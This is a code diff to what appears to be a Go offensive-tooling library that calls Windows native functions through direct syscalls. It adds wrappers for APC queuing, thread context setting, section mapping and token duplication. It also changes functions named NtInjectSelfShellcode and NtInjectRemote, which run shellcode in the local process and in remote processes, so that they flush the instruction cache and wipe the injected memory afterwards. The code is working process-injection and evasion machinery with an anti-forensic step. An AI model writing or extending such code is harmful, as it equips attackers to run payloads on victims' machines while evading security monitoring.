@@ -285,6 +285,19 @@ func NtAllocateVirtualMemory(processHandle uintptr, baseAddress *uintptr, zeroBi
 		protect)
 }
 
+// NtAllocateVirtualMemoryEx allocates memory with extended parameters (Windows 10 1803+)
+// This is the native counterpart of VirtualAlloc2 and the entry point for placeholder flows
+func NtAllocateVirtualMemoryEx(processHandle uintptr, baseAddress *uintptr, regionSize *uintptr, allocationType uintptr, pageProtection uintptr, extendedParameters unsafe.Pointer, extendedParameterCount uintptr) (uintptr, error) {
+	return DirectSyscall("NtAllocateVirtualMemoryEx",
+		processHandle,
+		uintptr(unsafe.Pointer(baseAddress)),
+		uintptr(unsafe.Pointer(regionSize)),
+		allocationType,
+		pageProtection,
+		uintptr(extendedParameters),
+		extendedParameterCount)
+}
+
 // NtWriteVirtualMemory writes to memory in a process
 func NtWriteVirtualMemory(processHandle uintptr, baseAddress uintptr, buffer unsafe.Pointer, size uintptr, bytesWritten *uintptr) (uintptr, error) {
 	debug.Printfln("WINAPI", "NtWriteVirtualMemory called\n")
@@ -429,6 +442,47 @@ func NtReadFile(fileHandle uintptr, event uintptr, apcRoutine uintptr, apcContex
 		uintptr(unsafe.Pointer(key)))
 }
 
+// NtCreateNamedPipeFile creates the server end of a named pipe
+func NtCreateNamedPipeFile(fileHandle *uintptr, desiredAccess uintptr, objectAttributes uintptr, ioStatusBlock uintptr, shareAccess uintptr, createDisposition uintptr, createOptions uintptr, namedPipeType uintptr, readMode uintptr, completionMode uintptr, maximumInstances uintptr, inboundQuota uintptr, outboundQuota uintptr, defaultTimeout *uint64) (uintptr, error) {
+	return DirectSyscall("NtCreateNamedPipeFile",
+		uintptr(unsafe.Pointer(fileHandle)),
+		desiredAccess,
+		objectAttributes,
+		ioStatusBlock,
+		shareAccess,
+		createDisposition,
+		createOptions,
+		namedPipeType,
+		readMode,
+		completionMode,
+		maximumInstances,
+		inboundQuota,
+		outboundQuota,
+		uintptr(unsafe.Pointer(defaultTimeout)))
+}
+
+// NtFsControlFile sends a file system control code to a file or pipe
+func NtFsControlFile(fileHandle uintptr, event uintptr, apcRoutine uintptr, apcContext uintptr, ioStatusBlock uintptr, fsControlCode uintptr, inputBuffer unsafe.Pointer, inputBufferLength uintptr, outputBuffer unsafe.Pointer, outputBufferLength uintptr) (uintptr, error) {
+	return DirectSyscall("NtFsControlFile",
+		fileHandle,
+		event,
+		apcRoutine,
+		apcContext,
+		ioStatusBlock,
+		fsControlCode,
+		uintptr(inputBuffer),
+		inputBufferLength,
+		uintptr(outputBuffer),
+		outputBufferLength)
+}
+
+// NtCancelIoFile cancels the pending I/O of the calling thread on a file
+func NtCancelIoFile(fileHandle uintptr, ioStatusBlock uintptr) (uintptr, error) {
+	return DirectSyscall("NtCancelIoFile",
+		fileHandle,
+		ioStatusBlock)
+}
+
 // Additional Process Manipulation Functions
 
 // NtTerminateProcess terminates a process
@@ -517,6 +571,74 @@ func NtTerminateThread(threadHandle uintptr, exitStatus uintptr) (uintptr, error
 		exitStatus)
 }
 
+// NtQueueApcThread queues a user-mode APC to a thread
+func NtQueueApcThread(threadHandle uintptr, apcRoutine uintptr, arg1 uintptr, arg2 uintptr, arg3 uintptr) (uintptr, error) {
+	return DirectSyscall("NtQueueApcThread",
+		threadHandle,
+		apcRoutine,
+		arg1,
+		arg2,
+		arg3)
+}
+
+// NtQueueApcThreadEx queues a user-mode APC with a reserve object or QUEUE_USER_APC_* flags
+func NtQueueApcThreadEx(threadHandle uintptr, reserveHandleOrFlags uintptr, apcRoutine uintptr, arg1 uintptr, arg2 uintptr, arg3 uintptr) (uintptr, error) {
+	return DirectSyscall("NtQueueApcThreadEx",
+		threadHandle,
+		reserveHandleOrFlags,
+		apcRoutine,
+		arg1,
+		arg2,
+		arg3)
+}
+
+// NtAlertThread alerts a thread, waking it from an alertable wait
+func NtAlertThread(threadHandle uintptr) (uintptr, error) {
+	return DirectSyscall("NtAlertThread", threadHandle)
+}
+
+// NtAlertResumeThread alerts a suspended thread and resumes it
+func NtAlertResumeThread(threadHandle uintptr, previousSuspendCount *uintptr) (uintptr, error) {
+	return DirectSyscall("NtAlertResumeThread",
+		threadHandle,
+		uintptr(unsafe.Pointer(previousSuspendCount)))
+}
+
+// NtTestAlert delivers pending user-mode APCs to the calling thread
+func NtTestAlert() (uintptr, error) {
+	return DirectSyscall("NtTestAlert")
+}
+
+// NtGetContextThread retrieves the register context of a thread (ctx.ContextFlags selects what)
+func NtGetContextThread(threadHandle uintptr, ctx *CONTEXT) (uintptr, error) {
+	return DirectSyscall("NtGetContextThread",
+		threadHandle,
+		uintptr(unsafe.Pointer(ctx)))
+}
+
+// NtSetContextThread sets the register context of a thread (ctx.ContextFlags selects what)
+func NtSetContextThread(threadHandle uintptr, ctx *CONTEXT) (uintptr, error) {
+	return DirectSyscall("NtSetContextThread",
+		threadHandle,
+		uintptr(unsafe.Pointer(ctx)))
+}
+
+// NtCreateUserProcess creates a process and its initial thread from an image described by the attribute list
+func NtCreateUserProcess(processHandle *uintptr, threadHandle *uintptr, processDesiredAccess uintptr, threadDesiredAccess uintptr, processObjectAttributes uintptr, threadObjectAttributes uintptr, processFlags uintptr, threadFlags uintptr, processParameters uintptr, createInfo *PS_CREATE_INFO, attributeList uintptr) (uintptr, error) {
+	return DirectSyscall("NtCreateUserProcess",
+		uintptr(unsafe.Pointer(processHandle)),
+		uintptr(unsafe.Pointer(threadHandle)),
+		processDesiredAccess,
+		threadDesiredAccess,
+		processObjectAttributes,
+		threadObjectAttributes,
+		processFlags,
+		threadFlags,
+		processParameters,
+		uintptr(unsafe.Pointer(createInfo)),
+		attributeList)
+}
+
 // Memory and Section Functions
 
 // NtCreateSection creates a section object
@@ -531,6 +653,14 @@ func NtCreateSection(sectionHandle *uintptr, desiredAccess uintptr, objectAttrib
 		fileHandle)
 }
 
+// NtOpenSection opens an existing named section object
+func NtOpenSection(sectionHandle *uintptr, desiredAccess uintptr, objectAttributes uintptr) (uintptr, error) {
+	return DirectSyscall("NtOpenSection",
+		uintptr(unsafe.Pointer(sectionHandle)),
+		desiredAccess,
+		objectAttributes)
+}
+
 // NtMapViewOfSection maps a view of a section
 func NtMapViewOfSection(sectionHandle uintptr, processHandle uintptr, baseAddress *uintptr, zeroBits uintptr, commitSize uintptr, sectionOffset *uint64, viewSize *uintptr, inheritDisposition uintptr, allocationType uintptr, win32Protect uintptr) (uintptr, error) {
 	return DirectSyscall("NtMapViewOfSection",
@@ -546,6 +676,21 @@ func NtMapViewOfSection(sectionHandle uintptr, processHandle uintptr, baseAddres
 		win32Protect)
 }
 
+// NtMapViewOfSectionEx maps a view of a section with extended parameters (Windows 10 1803+)
+// Passing MEM_REPLACE_PLACEHOLDER in allocationType maps the view over an existing placeholder
+func NtMapViewOfSectionEx(sectionHandle uintptr, processHandle uintptr, baseAddress *uintptr, sectionOffset *uint64, viewSize *uintptr, allocationType uintptr, win32Protect uintptr, extendedParameters unsafe.Pointer, extendedParameterCount uintptr) (uintptr, error) {
+	return DirectSyscall("NtMapViewOfSectionEx",
+		sectionHandle,
+		processHandle,
+		uintptr(unsafe.Pointer(baseAddress)),
+		uintptr(unsafe.Pointer(sectionOffset)),
+		uintptr(unsafe.Pointer(viewSize)),
+		allocationType,
+		win32Protect,
+		uintptr(extendedParameters),
+		extendedParameterCount)
+}
+
 // NtUnmapViewOfSection unmaps a view of a section
 func NtUnmapViewOfSection(processHandle uintptr, baseAddress uintptr) (uintptr, error) {
 	return DirectSyscall("NtUnmapViewOfSection",
@@ -553,6 +698,15 @@ func NtUnmapViewOfSection(processHandle uintptr, baseAddress uintptr) (uintptr,
 		baseAddress)
 }
 
+// NtUnmapViewOfSectionEx unmaps a view of a section with flags
+// MEM_PRESERVE_PLACEHOLDER turns the unmapped range back into a placeholder
+func NtUnmapViewOfSectionEx(processHandle uintptr, baseAddress uintptr, flags uintptr) (uintptr, error) {
+	return DirectSyscall("NtUnmapViewOfSectionEx",
+		processHandle,
+		baseAddress,
+		flags)
+}
+
 // NtFreeVirtualMemory frees virtual memory
 func NtFreeVirtualMemory(processHandle uintptr, baseAddress *uintptr, regionSize *uintptr, freeType uintptr) (uintptr, error) {
 	return DirectSyscall("NtFreeVirtualMemory",
@@ -686,6 +840,46 @@ func NtAdjustPrivilegesToken(tokenHandle uintptr, disableAllPrivileges bool, new
 		uintptr(unsafe.Pointer(returnLength)))
 }
 
+// NtDuplicateToken duplicates a token as a primary or impersonation token
+func NtDuplicateToken(existingTokenHandle uintptr, desiredAccess uintptr, objectAttributes uintptr, effectiveOnly bool, tokenType uintptr, newTokenHandle *uintptr) (uintptr, error) {
+	effective := uintptr(0)
+	if effectiveOnly {
+		effective = 1
+	}
+	return DirectSyscall("NtDuplicateToken",
+		existingTokenHandle,
+		desiredAccess,
+		objectAttributes,
+		effective,
+		tokenType,
+		uintptr(unsafe.Pointer(newTokenHandle)))
+}
+
+// NtFilterToken creates a restricted copy of a token
+func NtFilterToken(existingTokenHandle uintptr, flags uintptr, sidsToDisable uintptr, privilegesToDelete uintptr, restrictedSids uintptr, newTokenHandle *uintptr) (uintptr, error) {
+	return DirectSyscall("NtFilterToken",
+		existingTokenHandle,
+		flags,
+		sidsToDisable,
+		privilegesToDelete,
+		restrictedSids,
+		uintptr(unsafe.Pointer(newTokenHandle)))
+}
+
+// NtCreateLowBoxToken creates an AppContainer (lowbox) token from an existing token
+func NtCreateLowBoxToken(tokenHandle *uintptr, existingTokenHandle uintptr, desiredAccess uintptr, objectAttributes uintptr, packageSid uintptr, capabilityCount uintptr, capabilities uintptr, handleCount uintptr, handles uintptr) (uintptr, error) {
+	return DirectSyscall("NtCreateLowBoxToken",
+		uintptr(unsafe.Pointer(tokenHandle)),
+		existingTokenHandle,
+		desiredAccess,
+		objectAttributes,
+		packageSid,
+		capabilityCount,
+		capabilities,
+		handleCount,
+		handles)
+}
+
 // Object and Handle Functions
 
 // NtDuplicateObject duplicates an object handle
@@ -929,6 +1123,16 @@ func NtFlushInstructionCache(processHandle uintptr, baseAddress uintptr, size ui
 		size)
 }
 
+// flushInstructionCache flushes the instruction cache for a range that was just written
+// and is about to be executed. Every write-then-execute path calls it before handing
+// control to new code so other cores (and ARM64 hosts running x64 code) never fetch stale bytes.
+func flushInstructionCache(processHandle uintptr, baseAddress uintptr, size uintptr) {
+	status, err := NtFlushInstructionCache(processHandle, baseAddress, size)
+	if err != nil || status != STATUS_SUCCESS {
+		debug.Printfln("WINAPI", "Warning: NtFlushInstructionCache failed for 0x%X: %v %s\n", baseAddress, err, FormatNTStatus(status))
+	}
+}
+
 // NtSetEventBoostPriority temporarily boosts the priority of waiting threads
 func NtSetEventBoostPriority(eventHandle uintptr) (uintptr, error) {
 	return DirectSyscall("NtSetEventBoostPriority",
@@ -1626,6 +1830,7 @@ func NtInjectSelfShellcode(shellcode []byte) error {
 	
 	destSlice := (*[1 << 30]byte)(unsafe.Pointer(addr))[:len(shellcode):len(shellcode)]
 	copy(destSlice, shellcode)
+	flushInstructionCache(currentProcess, addr, uintptr(len(shellcode)))
 
 
 	var hThread uintptr
@@ -1647,6 +1852,7 @@ func NtInjectSelfShellcode(shellcode []byte) error {
 	
 	if result != 0 || hThread == 0 {
 
+		WipeMemory(addr, uintptr(len(shellcode)))
 		DirectSyscall("NtFreeVirtualMemory", currentProcess, uintptr(unsafe.Pointer(&addr)), uintptr(unsafe.Pointer(&size)), 0x8000)
 		return fmt.Errorf("thread creation failed: result=0x%X, handle=0x%X", result, hThread)
 	}
@@ -1662,6 +1868,7 @@ func NtInjectSelfShellcode(shellcode []byte) error {
 
 
 	DirectSyscall("NtClose", hThread)
+	WipeMemory(addr, uintptr(len(shellcode)))
 	DirectSyscall("NtFreeVirtualMemory", currentProcess, uintptr(unsafe.Pointer(&addr)), uintptr(unsafe.Pointer(&size)), 0x8000)
 	
 
@@ -1766,6 +1973,8 @@ func NtInjectRemote(processHandle uintptr, payload []byte) error {
 	
 	debug.Printfln("WINAPI", "Changed memory protection to RX\n")
 
+	flushInstructionCache(processHandle, remoteBuffer, uintptr(len(payload)))
+
 	// Step 4: Create remote thread using NtCreateThreadEx 
 	var hThread uintptr
 	